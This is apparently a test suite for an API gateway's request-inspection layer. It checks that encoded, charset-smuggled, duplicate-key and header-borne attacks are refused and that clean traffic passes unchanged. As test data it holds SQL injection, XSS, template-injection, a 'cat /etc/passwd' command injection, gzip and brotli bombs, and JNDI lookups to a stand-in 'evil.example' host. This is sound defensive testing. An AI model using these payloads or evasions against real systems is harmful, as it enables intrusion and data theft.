/* eslint-disable no-template-curly-in-string -- attack payloads contain literal ${...} lookups */
/**
 * Inspection evasions (issue "Request inspection II"), end to end over TCP through the whole
 * gateway: coded bodies, charsets, duplicate JSON keys and headers outside the inspected set.
 * Every refusal proves the recording upstream received nothing; every benign twin proves the
 * upstream received the client's bytes unchanged.
 */
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import t, { type Test } from 'tap'
import { request } from 'undici'
import { defineRoute } from 'portcullis'
import { startGateway } from '../helpers/gateway.js'
import { rawRequest } from '../helpers/raw-http.js'
import { startUpstream, type Upstream } from '../helpers/upstream.js'

interface Setup { url: string, port: number, up: Upstream }

async function setup (t: Test): Promise<Setup> {
  const up = await startUpstream(t)
  const gw = await startGateway(t, {
    logLevel: 'warn',
    routes: [
      defineRoute({ prefix: '/api', upstream: up.url, auth: false, rateLimit: false, inspect: { mode: 'block', body: true } }),
      defineRoute({ prefix: '/strict', upstream: up.url, auth: false, rateLimit: false, inspect: { mode: 'block', body: true, contentEncoding: 'refuse' } }),
      defineRoute({ prefix: '/shadow', upstream: up.url, auth: false, rateLimit: false, inspect: { mode: 'detect', body: true } }),
      defineRoute({ prefix: '/stream', upstream: up.url, auth: false, rateLimit: false })
    ]
  })
  return { url: gw.url, port: gw.port, up }
}

interface Reply { status: number, code: unknown }

async function send (url: string, headers: Record<string, string>, body?: Buffer | string, method = 'POST'): Promise<Reply> {
  const res = await request(url, { method, headers, ...(body !== undefined ? { body } : {}) })
  const text = await res.body.text()
  let code: unknown
  try {
    code = (JSON.parse(text) as Record<string, unknown>).code
  } catch {
    code = undefined
  }
  return { status: res.statusCode, code }
}

const SQLI_JSON = '{"order":{"note":"1\' UNION SELECT password FROM users--"}}'
const XSS_FORM = 'name=ann&comment=' + encodeURIComponent('<script>alert(document.cookie)</script>')
const CLEAN_JSON = '{"order":{"note":"Leave it at the door, please","qty":2}}'
const CLEAN_FORM = 'name=ann&comment=' + encodeURIComponent('See you on Monday')

/** Each spelling of a coding and the bytes it produces. */
const CODED: Array<[string, (b: Buffer) => Buffer]> = [
  ['gzip', (b) => gzipSync(b)],
  ['x-gzip', (b) => gzipSync(b)],
  ['GZIP', (b) => gzipSync(b)],
  ['deflate', (b) => deflateSync(b)],
  ['deflate', (b) => deflateRawSync(b)],
  ['br', (b) => brotliCompressSync(b)],
  ['gzip, gzip', (b) => gzipSync(gzipSync(b))],
  ['deflate, br', (b) => brotliCompressSync(deflateSync(b))],
  ['identity, gzip', (b) => gzipSync(b)]
]

t.test('coded bodies are decoded and inspected: payloads refused, clean bodies forwarded as sent', async (t) => {
  const { url, up } = await setup(t)
  for (const [coding, encode] of CODED) {
    const json = await send(`${url}/api/orders`, { 'content-type': 'application/json', 'content-encoding': coding }, encode(Buffer.from(SQLI_JSON)))
    t.strictSame(json, { status: 403, code: 'GW_INSPECT_BLOCKED' }, `${coding} JSON with SQL injection`)
    const form = await send(`${url}/api/comments`, { 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': coding }, encode(Buffer.from(XSS_FORM)))
    t.strictSame(form, { status: 403, code: 'GW_INSPECT_BLOCKED' }, `${coding} form with XSS`)
  }
  t.equal(up.requests.length, 0, 'no coded attack reached the upstream')

  for (const [coding, encode] of CODED) {
    for (const [type, clean] of [['application/json', CLEAN_JSON], ['application/x-www-form-urlencoded', CLEAN_FORM]] as const) {
      const bytes = encode(Buffer.from(clean))
      const before = up.requests.length
      const res = await send(`${url}/api/orders`, { 'content-type': type, 'content-encoding': coding }, bytes)
      t.equal(res.status, 200, `clean ${coding} ${type}`)
      const got = up.requests[before]
      t.ok(got?.body.equals(bytes), 'the upstream received the coded bytes as sent')
      t.equal(got?.headers['content-encoding'], coding, 'with the same Content-Encoding')
    }
  }
  const identity = await send(`${url}/api/orders`, { 'content-type': 'application/json', 'content-encoding': 'identity' }, SQLI_JSON)
  t.strictSame(identity, { status: 403, code: 'GW_INSPECT_BLOCKED' }, 'identity is inspected as is')
})

t.test('unknown codings and routes that refuse codings answer 415; bombs 413; corrupt data 400', async (t) => {
  // 16 MiB of zeros in about 16 KiB (gzip) and 30 bytes (brotli), built before the gateway starts.
  const zeros = Buffer.alloc(16 * 1024 * 1024)
  const gzBomb = gzipSync(zeros, { level: 9 })
  const brBomb = brotliCompressSync(zeros)
  const { url, up } = await setup(t)
  const json = { 'content-type': 'application/json' }
  for (const coding of ['compress', 'zstd', 'x-compress', 'gzip, foo', 'aes128gcm', 'gzip, gzip, gzip, gzip']) {
    const res = await send(`${url}/api/orders`, { ...json, 'content-encoding': coding }, gzipSync(CLEAN_JSON))
    t.strictSame(res, { status: 415, code: 'GW_INSPECT_ENCODING_UNSUPPORTED' }, coding)
  }
  for (const coding of ['gzip', 'br', 'deflate']) {
    const res = await send(`${url}/strict/orders`, { ...json, 'content-encoding': coding }, gzipSync(CLEAN_JSON))
    t.strictSame(res, { status: 415, code: 'GW_INSPECT_ENCODING_UNSUPPORTED' }, `route with contentEncoding: 'refuse', ${coding}`)
  }

  t.ok(gzBomb.length < 32 * 1024 && brBomb.length < 1024, 'the bombs are small on the wire')
  t.strictSame(await send(`${url}/api/orders`, { ...json, 'content-encoding': 'gzip' }, gzBomb), { status: 413, code: 'GW_INSPECT_TOO_LARGE' }, 'gzip bomb')
  t.strictSame(await send(`${url}/api/orders`, { ...json, 'content-encoding': 'br' }, brBomb), { status: 413, code: 'GW_INSPECT_TOO_LARGE' }, 'brotli bomb')
  t.strictSame(await send(`${url}/api/orders`, { ...json, 'content-encoding': 'gzip, gzip' }, gzipSync(gzBomb)), { status: 413, code: 'GW_INSPECT_TOO_LARGE' }, 'stacked gzip bomb')

  const truncated = gzipSync(SQLI_JSON).subarray(0, 20)
  t.strictSame(await send(`${url}/api/orders`, { ...json, 'content-encoding': 'gzip' }, truncated), { status: 400, code: 'GW_INSPECT_BODY_INVALID' }, 'truncated gzip')
  t.strictSame(await send(`${url}/api/orders`, { ...json, 'content-encoding': 'br' }, Buffer.from(SQLI_JSON)), { status: 400, code: 'GW_INSPECT_BODY_INVALID' }, 'plain text declared br')
  t.equal(up.requests.length, 0, 'nothing reached the upstream')

  const plain = await send(`${url}/strict/orders`, { ...json, 'content-encoding': 'identity' }, CLEAN_JSON)
  t.equal(plain.status, 200, 'identity passes a route that refuses codings')
  t.equal(up.requests.length, 1)
})

t.test('detect mode logs what it cannot read and passes it; streamed routes forward coded bodies untouched', async (t) => {
  const { url, up } = await setup(t)
  const unknown = await send(`${url}/shadow/orders`, { 'content-type': 'application/json', 'content-encoding': 'zstd' }, 'opaque')
  t.equal(unknown.status, 200, 'detect mode: an unknown coding passes')
  const bytes = gzipSync(SQLI_JSON)
  const streamed = await send(`${url}/stream/orders`, { 'content-type': 'application/json', 'content-encoding': 'gzip' }, bytes)
  t.equal(streamed.status, 200, 'a route that does not inspect bodies forwards them')
  t.ok(up.requests[1]?.body.equals(bytes), 'byte for byte, still coded')
})

t.test('Transfer-Encoding codings other than chunked are refused before any policy', async (t) => {
  const { port, up } = await setup(t)
  for (const te of ['gzip, chunked', 'deflate', 'chunked, gzip']) {
    const res = await rawRequest(port, `POST /api/orders HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: ${te}\r\n\r\n0\r\n\r\n`)
    t.equal(res.status, 400, te)
    t.match(res.body, /GW_REQUEST_(?:FRAMING|INVALID)/, 'by the request guard or the HTTP parser')
  }
  t.equal(up.requests.length, 0)
})

t.test('only charsets inspection decodes are accepted on inspected bodies', async (t) => {
  const { url, up } = await setup(t)
  const ebcdic = Buffer.from([0x98, 0x7e, 0x7d, 0x96, 0x99, 0x40, 0xf1, 0x7e, 0xf1]) // q=' or 1=1 in IBM037
  const refused: Array<[string, string, Buffer | string]> = [
    ['application/x-www-form-urlencoded; charset=ibm037', 'EBCDIC form', ebcdic],
    ['application/x-www-form-urlencoded; charset="IBM037"', 'quoted, upper case', ebcdic],
    ['application/x-www-form-urlencoded;CharSet=ibm037', 'parameter name in odd case', ebcdic],
    ['application/x-www-form-urlencoded; charset=utf-8; charset=ibm037', 'two charset parameters', ebcdic],
    ['application/x-www-form-urlencoded; charset=utf-7', 'UTF-7', 'q=+ADw-script+AD4-'],
    ['application/json; charset=utf-16', 'UTF-16 JSON', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(SQLI_JSON, 'utf16le')])],
    ['application/json; charset=utf-32le', 'UTF-32 JSON', Buffer.from(SQLI_JSON)],
    ['application/json; charset=iso-8859-1', 'JSON in another charset than UTF-8', CLEAN_JSON],
    ['application/json', 'UTF-16 JSON without a BOM', Buffer.from(SQLI_JSON, 'utf16le')],
    ['application/json; charset=utf-8', 'UTF-16 byte-order mark on a body declared UTF-8', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(SQLI_JSON, 'utf16le').swap16()])],
    ['application/x-www-form-urlencoded', '_charset_ field naming another charset', '_charset_=ibm037&q=1'],
    ['text/plain; charset=', 'empty charset', 'hello']
  ]
  for (const [type, what, body] of refused) {
    t.strictSame(await send(`${url}/api/orders`, { 'content-type': type }, body), { status: 415, code: 'GW_INSPECT_CHARSET_UNSUPPORTED' }, what)
  }
  const boundary = 'xYzZY'
  const part = (headers: string, value: string): string => `--${boundary}\r\nContent-Disposition: form-data; name="q"\r\n${headers}\r\n${value}\r\n`
  const multipart = `multipart/form-data; boundary=${boundary}`
  const parts: Array<[string, string]> = [
    [part('Content-Type: text/plain; charset=ibm037\r\n', 'x') + `--${boundary}--\r\n`, 'a part in EBCDIC'],
    [`--${boundary}\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\nibm037\r\n` + part('', 'x') + `--${boundary}--\r\n`, 'a _charset_ part']
  ]
  for (const [body, what] of parts) {
    t.strictSame(await send(`${url}/api/upload`, { 'content-type': multipart }, body), { status: 415, code: 'GW_INSPECT_CHARSET_UNSUPPORTED' }, what)
  }
  const base64Part = part('Content-Transfer-Encoding: base64\r\n', Buffer.from('<script>alert(1)</script>').toString('base64')) + `--${boundary}--\r\n`
  t.strictSame(await send(`${url}/api/upload`, { 'content-type': multipart }, base64Part), { status: 415, code: 'GW_INSPECT_ENCODING_UNSUPPORTED' }, 'a base64 part')
  t.equal(up.requests.length, 0, 'nothing reached the upstream')

  const accepted: Array<[string, Buffer]> = [
    ['application/json; charset=utf-8', Buffer.from(CLEAN_JSON)],
    ['application/json; charset="UTF-8"', Buffer.from(CLEAN_JSON)],
    ['application/x-www-form-urlencoded; charset=ISO-8859-1', Buffer.from('name=Se%E1n&city=K%F6ln')],
    ['application/x-www-form-urlencoded; charset=us-ascii', Buffer.from(CLEAN_FORM)],
    ['text/plain; charset=latin1', Buffer.from('Caf\xe9 au lait', 'latin1')],
    ['application/json', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(CLEAN_JSON)])],
    [multipart, Buffer.from(part('Content-Type: text/plain; charset=utf-8\r\n', 'hello') + `--${boundary}--\r\n`)]
  ]
  for (const [type, body] of accepted) {
    const before = up.requests.length
    const res = await send(`${url}/api/orders`, { 'content-type': type }, body)
    t.equal(res.status, 200, type)
    t.ok(up.requests[before]?.body.equals(body), 'forwarded byte for byte')
  }
  const latin1Attack = await send(`${url}/api/orders`, { 'content-type': 'application/x-www-form-urlencoded; charset=iso-8859-1' }, Buffer.from(XSS_FORM, 'latin1'))
  t.strictSame(latin1Attack, { status: 403, code: 'GW_INSPECT_BLOCKED' }, 'a Latin-1 body is inspected')
})

t.test('duplicate JSON keys are refused at any depth, equal after unescaping', async (t) => {
  const { url, up } = await setup(t)
  const json = { 'content-type': 'application/json' }
  const duplicates = [
    '{"q":"1\' UNION SELECT password FROM users--","q":"ok"}',
    '{"order":{"items":[{"sku":"a"},{"note":"<script>alert(1)</script>","note":"fine"}]}}',
    '{"a":1,"\\u0061":2}',
    '{"a\\"b":1,"a\\u0022b":2}',
    '[{"x":{"y":{"z":1,"z":2}}}]'
  ]
  for (const body of duplicates) {
    t.strictSame(await send(`${url}/api/orders`, json, body), { status: 400, code: 'GW_INSPECT_BODY_INVALID' }, body)
  }
  const gz = await send(`${url}/api/orders`, { ...json, 'content-encoding': 'gzip' }, gzipSync(duplicates[0] as string))
  t.strictSame(gz, { status: 400, code: 'GW_INSPECT_BODY_INVALID' }, 'also inside a coded body')
  t.equal(up.requests.length, 0, 'nothing reached the upstream')

  const single = '{"items":[{"sku":"a","qty":1},{"sku":"b","qty":2}],"meta":{"sku":"c"},"a\\"b":"\\"a\\"b\\"","ab":1}'
  const res = await send(`${url}/api/orders`, json, single)
  t.equal(res.status, 200, 'equal keys in different objects are fine')
  t.equal(up.requests[0]?.body.toString(), single)
})

t.test('every header forwarded upstream is inspected, name and value', async (t) => {
  const { url, port, up } = await setup(t)
  const attacks: Array<[string, string]> = [
    ['tracestate', 'vendor=${jndi:ldap://evil.example/a}'],
    ['traceparent', '${jndi:ldap://evil.example/a}'],
    ['accept-encoding', 'gzip\' OR 1=1--'],
    ['x-anything', '1\' UNION SELECT password FROM users--'],
    ['x-anything', 'a; cat /etc/passwd'],
    ['x-anything', '{{7*7}}'],
    ['x-anything', '1 AND SLEEP(5)'],
    ['user-agent', '${jndi:ldap://evil.example/a}'],
    ['x-api-version', '${jndi:ldap://evil.example/a}'],
    ['sec-websocket-key', '${jndi:ldap://evil.example/a}'],
    ['content-encoding', '${jndi:ldap://evil.example/a}']
  ]
  for (const [name, value] of attacks) {
    const res = await send(`${url}/stream/items`, { [name]: value }, undefined, 'GET')
    t.strictSame(res, { status: 403, code: 'GW_INSPECT_BLOCKED' }, `${name}: ${value}`)
  }
  for (const name of ['x-\'--', 'x|id', 'x-`id`']) {
    const named = await rawRequest(port, `GET /stream/items HTTP/1.1\r\nHost: x\r\n${name}: 1\r\n\r\n`)
    t.equal(named.status, 403, `a payload in a header name: ${name}`)
    t.match(named.body, /GW_INSPECT_BLOCKED/)
  }
  t.equal(up.requests.length, 0, 'nothing reached the upstream')

  const ordinary = {
    'user-agent': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    accept: 'application/json, text/plain, */*',
    'accept-encoding': 'gzip, deflate, br, zstd',
    'accept-language': 'en-GB,en;q=0.9,de;q=0.8',
    traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
    tracestate: 'rojo=00f067aa0ba902b7,congo=t61rcWkgMzE',
    'x-api-version': '2024-10-01',
    'x-anything': 'plain value, nothing more',
    referer: 'https://app.example.com/orders?page=2',
    'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ=='
  }
  const res = await send(`${url}/stream/items`, ordinary, undefined, 'GET')
  t.equal(res.status, 200, 'ordinary headers pass')
  const got = up.requests[0]?.headers
  t.equal(got?.['x-api-version'], '2024-10-01')
  t.equal(got?.['x-anything'], 'plain value, nothing more')
  t.equal(got?.['accept-encoding'], 'gzip, deflate, br, zstd')
})
